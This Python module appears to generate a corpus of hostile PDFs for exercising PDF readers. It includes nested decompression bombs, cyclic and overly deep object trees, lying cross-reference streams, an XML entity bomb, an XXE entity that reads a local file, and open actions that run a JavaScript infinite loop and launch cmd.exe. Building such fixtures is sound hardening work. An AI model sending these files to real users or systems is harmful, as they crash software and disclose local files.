"""PDFs made to hurt whoever reads them, for the stories of hostile files. Not tests.

Each maker returns the bytes of one file. What they do stands in their names; the syntax is that of ISO 32000-1.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from functools import partial

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 12 Tf 60 700 Td (Readable words of a hostile report) Tj ET"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def page(extra: bytes = b"", *, parent: int = 2, contents: bytes = b"4 0 R", resources: bytes = b"") -> bytes:
    """A page object."""
    fonts = b"/Font << /F1 5 0 R >>"
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %s /Resources << %s %s >> %s >>" % (
        parent,
        contents,
        fonts,
        resources,
        extra,
    )


def pdf(objects: Mapping[int, bytes] = {}, trailer: bytes = b"", *, catalog: bytes = b"") -> bytes:
    """A file of one page with text, in which `objects` stand in place of the usual ones (1 catalog, 2 page tree,
    3 page, 4 contents, 5 font)."""
    whole = {1: _CATALOG[:-2] + catalog + b" >>", 2: _PAGES, 3: page(), 4: stream(_TEXT), 5: _FONT, **objects}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in sorted(whole.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(whole) + 1
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def deflated(byte: bytes, size: int, times: int = 1) -> bytes:
    """`size` bytes of one value, packed `times` times over."""
    packer = zlib.compressobj(9)
    out = bytearray()
    chunk = byte * (1 << 20)
    for _ in range(size >> 20):
        out += packer.compress(chunk)
    out += packer.flush()
    data = bytes(out)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _bomb(before: bytes, byte: bytes, size: int, times: int, key: bytes = b"") -> bytes:
    filters = b"[" + b"/FlateDecode " * times + b"]"
    return stream(deflated(byte, size, times), b"/Filter %s %s" % (filters, before + key))


def flate_bomb_in_a_page(size: int = 4 << 30) -> bytes:
    return pdf({4: _bomb(b"", b" ", size, 2)})


def flate_bomb_of_text(size: int = 1 << 28) -> bytes:
    show = b"BT /F1 12 Tf 60 700 Td " + b"(words without an end) Tj 0 -1 Td " * (size // 34) + b"ET"
    return pdf({4: stream(zlib.compress(show, 9), b"/Filter /FlateDecode")})


def flate_bomb_in_metadata(size: int = 4 << 30) -> bytes:
    return pdf({6: _bomb(b"/Type /Metadata /Subtype /XML", b" ", size, 2)}, catalog=b"/Metadata 6 0 R")


def flate_bomb_in_a_font(size: int = 4 << 30) -> bytes:
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /ToUnicode 6 0 R >>"
    return pdf({5: font, 6: _bomb(b"", b" ", size, 2)})


def many_filters(times: int = 5_000) -> bytes:
    return pdf({4: stream(b"30>", b"/Filter [" + b"/ASCIIHexDecode " * times + b"]")})


def page_tree_in_a_circle() -> bytes:
    return pdf(
        {2: b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 3 >>", 6: b"<< /Type /Pages /Kids [2 0 R] /Count 2 >>"}
    )


def page_tree_of_a_billion(breadth: int = 10, depth: int = 9, count: bytes = b"1") -> bytes:
    nodes = {}
    for level in range(depth):
        child = 3 if level == depth - 1 else 11 + level
        number = 2 if level == 0 else 10 + level
        kids = b"%d 0 R " % child * breadth
        nodes[number] = b"<< /Type /Pages /Kids [%s] /Count %s >>" % (kids, count)
    return pdf(nodes)


def page_tree_too_deep(depth: int = 50_000) -> bytes:
    nodes = {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
    for level in range(depth):
        child = 3 if level == depth - 1 else 11 + level
        nodes[10 + level] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % child
    return pdf(nodes)


def pages_declared(number: int) -> bytes:
    return pdf({2: b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % number})


def pages_listed(number: int = 1_000_000) -> bytes:
    return pdf({2: b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"3 0 R " * number)})


def references_in_a_circle() -> bytes:
    circle = {6: b"7 0 R", 7: b"6 0 R"}
    return pdf({**circle, 3: page(contents=b"6 0 R")}, b"/Info 6 0 R", catalog=b"/Metadata 6 0 R /Outlines 6 0 R")


def arrays_too_deep(depth: int = 500_000) -> bytes:
    deep = b"[" * depth + b"]" * depth
    return pdf({6: b"<< /Title %s >>" % deep, 3: page(b"/Odd %s" % deep)}, b"/Info 6 0 R")


def dictionaries_too_deep(depth: int = 200_000) -> bytes:
    deep = b"<< /A " * depth + b"1" + b" >>" * depth
    return pdf({6: b"<< /Title %s >>" % deep}, b"/Info 6 0 R")


def huge_picture() -> bytes:
    picture = (
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    )
    draw = stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    return pdf({3: page(resources=b"/XObject << /I 6 0 R >>"), 4: draw, 6: _bomb(picture, b"\0", 1 << 30, 1)})


def huge_page() -> bytes:
    return pdf({3: page().replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]")})


def font_without_a_map() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [<< /Type /Font "
        b"/Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) >> >>] >>"
    )
    return pdf({5: font, 4: stream(b"BT /F1 12 Tf 60 700 Td <00410042004300440045> Tj ET")})


def font_that_draws_itself() -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 "
        b"/Widths [1] /Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return pdf({5: font, 6: stream(b"BT /F1 12 Tf (A) Tj ET"), 4: stream(b"BT /F1 12 Tf (A) Tj ET")})


def character_map_bomb() -> bytes:
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [7 0 R] /ToUnicode 6 0 R >>"
    ranges = b"100 beginbfrange\n" + b"<00000000> <ffffffff> <0000>\n" * 100 + b"endbfrange\n"
    descendant = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /W [0 2000000000 500] >>"
    shown = stream(b"BT /F1 12 Tf 60 700 Td <00410042> Tj ET")
    return pdf({5: font, 6: stream(b"begincmap\n" + ranges + b"endcmap"), 7: descendant, 4: shown})


def form_that_draws_itself() -> bytes:
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return pdf({3: page(resources=b"/XObject << /X 6 0 R >>"), 4: stream(b"/X Do"), 6: form})


def forms_of_a_billion(breadth: int = 10, depth: int = 9) -> bytes:
    objects = {3: page(resources=b"/XObject << /X 10 0 R >>"), 4: stream(b"/X Do " * breadth)}
    for level in range(depth):
        last = level == depth - 1
        inner = b"" if last else b"/XObject << /X %d 0 R >>" % (11 + level)
        body = _TEXT if last else b"/X Do " * breadth
        head = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> %s >>" % inner
        )
        objects[10 + level] = stream(body, head)
    return pdf(objects)


def object_stream_that_lies() -> bytes:
    numbers = b" ".join(b"%d %d" % (number, number * 10_000_000) for number in range(3, 60))
    return pdf(
        {6: stream(numbers, b"/Type /ObjStm /N 2000000000 /First 2147483647 /Extends 6 0 R")}, b"/Info 6 0 R"
    )


def cross_references_in_a_circle() -> bytes:
    whole = pdf()
    start = whole.rindex(b"xref\n0 1")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def cross_references_of_a_billion() -> bytes:
    return pdf().replace(b"xref\n0 1\n", b"xref\n0 999999999\n")


def cross_reference_stream_that_lies() -> bytes:
    whole = pdf()
    body = whole[: whole.rindex(b"xref\n0 1")]
    table = stream(
        deflated(b"\1", 1 << 28, 2),
        b"/Type /XRef /W [1 4 2147483647] /Index [0 2147483647] /Size 2147483647 /Root 1 0 R "
        b"/Filter [/FlateDecode /FlateDecode] /DecodeParms [null << /Predictor 12 /Columns 2147483647 >>]",
    )
    return body + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body))


def locked_by(handler: bytes) -> bytes:
    return pdf({6: handler}, b"/Encrypt 6 0 R /ID [<00> <00>]")


def does_things(place: bytes) -> bytes:
    """Everything a PDF can be told to do when it is opened; `place` is a file that it would make or send."""
    actions = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\); this.exportDataObject\\(1\\)) "
        b"/Next [<< /S /Launch /F (%s) /Win << /F (cmd.exe) >> >> << /S /URI /URI (http://127.0.0.1:9/a) >> "
        b"<< /S /SubmitForm /F (http://127.0.0.1:9/form) >> << /S /GoToR /F (%s) /D [0 /Fit] >> "
        b"<< /S /ImportData /F (%s) >>] >> "
        b"/AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> "
        b"/EmbeddedFiles << /Names [(evil.txt) 7 0 R] >> >>" % (place, place, place)
    )
    script = b"<< /S /JavaScript /JS (while \\(true\\) {}) >>"
    embedded = b"<< /Type /Filespec /F (evil.txt) /EF << /F 8 0 R >> >>"
    outside = b"<< /Length 0 /F << /FS /URL /F (http://127.0.0.1:9/contents) >> /FFilter /FlateDecode >>\nstream\n\nendstream"
    return pdf(
        {
            3: page(b"/AA << /O 6 0 R >>", contents=b"[4 0 R 9 0 R]"),
            6: script,
            7: embedded,
            8: stream(b"hiddenembeddedwords"),
            9: outside,
        },
        catalog=actions,
    )


def metadata(packet: bytes) -> bytes:
    """A file with this XMP packet."""
    return pdf({6: stream(packet, b"/Type /Metadata /Subtype /XML")}, catalog=b"/Metadata 6 0 R")


def _rdf(inside: bytes, before: bytes = b"") -> bytes:
    return (
        b"<?xpacket begin=''?>%s<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF "
        b"xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns:dc='http://purl.org/dc/elements/1.1/'>"
        b"<rdf:Description><dc:publisher>%s</dc:publisher></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
    ) % (before, inside)


def metadata_entity_bomb() -> bytes:
    entities = b"".join(b"<!ENTITY e%d '%s'>" % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 12))
    return metadata(_rdf(b"&e11;", b"<!DOCTYPE x [<!ENTITY e0 'bomb'>" + entities + b"]>"))


def metadata_that_reads_a_file(place: bytes) -> bytes:
    doctype = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://%s'>]>" % place
    return metadata(_rdf(b"Secret: &e;", doctype))


def metadata_too_deep(depth: int = 100_000) -> bytes:
    return metadata(_rdf(b"<a>" * depth + b"deep" + b"</a>" * depth))


def bookmarks_in_a_circle() -> bytes:
    mark = (
        b"<< /Title (Again) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>"
    )
    return pdf(
        {6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", 7: mark}, catalog=b"/Outlines 6 0 R"
    )


def names_in_a_circle() -> bytes:
    marks = {
        6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R >>",
        7: b"<< /Title (Lost) /Parent 6 0 R /Dest (there) >>",
    }
    tree = {8: b"<< /Kids [8 0 R 8 0 R] /Limits [(a) (z)] >>"}
    labels = {9: b"<< /Kids [9 0 R] /Limits [0 9] >>"}
    return pdf({**marks, **tree, **labels}, catalog=b"/Outlines 6 0 R /Names << /Dests 8 0 R >> /PageLabels 9 0 R")


def graphics_state_too_deep(depth: int = 2_000_000) -> bytes:
    return pdf({4: stream(zlib.compress(b"q " * depth + _TEXT), b"/Filter /FlateDecode")})


def contents_of_a_million_parts(parts: int = 300_000) -> bytes:
    return pdf({3: page(contents=b"[" + b"4 0 R " * parts + b"]")})


def a_word_without_end(size: int = 20_000_000) -> bytes:
    return pdf({4: stream(zlib.compress(b"BT /F1 1 Tf (" + b"a" * size + b") Tj ET"), b"/Filter /FlateDecode")})


#: By the name of the file.
PDFS: dict[str, Callable[[], bytes]] = {
    "flate-bomb-page": flate_bomb_in_a_page,
    "flate-bomb-text": flate_bomb_of_text,
    "flate-bomb-metadata": flate_bomb_in_metadata,
    "flate-bomb-font": flate_bomb_in_a_font,
    "many-filters": many_filters,
    "page-tree-circle": page_tree_in_a_circle,
    "page-tree-billion": page_tree_of_a_billion,
    "page-tree-billion-honest": partial(page_tree_of_a_billion, count=b"1000000000"),
    "page-tree-deep": page_tree_too_deep,
    "pages-declared-million": partial(pages_declared, 1_000_000),
    "pages-declared-9999": partial(pages_declared, 9_999),
    "pages-declared-minus": partial(pages_declared, -5),
    "pages-listed-million": pages_listed,
    "reference-circle": references_in_a_circle,
    "arrays-deep": arrays_too_deep,
    "dictionaries-deep": dictionaries_too_deep,
    "huge-picture": huge_picture,
    "huge-page": huge_page,
    "font-without-map": font_without_a_map,
    "font-draws-itself": font_that_draws_itself,
    "character-map-bomb": character_map_bomb,
    "form-draws-itself": form_that_draws_itself,
    "forms-billion": forms_of_a_billion,
    "object-stream-lies": object_stream_that_lies,
    "xref-circle": cross_references_in_a_circle,
    "xref-billion": cross_references_of_a_billion,
    "xref-stream-lies": cross_reference_stream_that_lies,
    "locked-unknown-handler": partial(locked_by, b"<< /Filter /Mystery /V 99 /R 99 >>"),
    "locked-garbage": partial(
        locked_by,
        b"<< /Filter /Standard /V 5 /R 6 /Length 2147483647 /O (x) /U (y) /P 99999999999 /OE 5 /UE [] >>",
    ),
    "locked-circle": partial(locked_by, b"6 0 R"),
    "does-things": partial(does_things, b"/etc/hostname"),
    "xmp-entity-bomb": metadata_entity_bomb,
    "xmp-reads-a-file": partial(metadata_that_reads_a_file, b"/etc/hostname"),
    "xmp-deep": metadata_too_deep,
    "bookmarks-circle": bookmarks_in_a_circle,
    "names-circle": names_in_a_circle,
    "graphics-state-deep": graphics_state_too_deep,
    "contents-million-parts": contents_of_a_million_parts,
    "word-without-end": a_word_without_end,
}
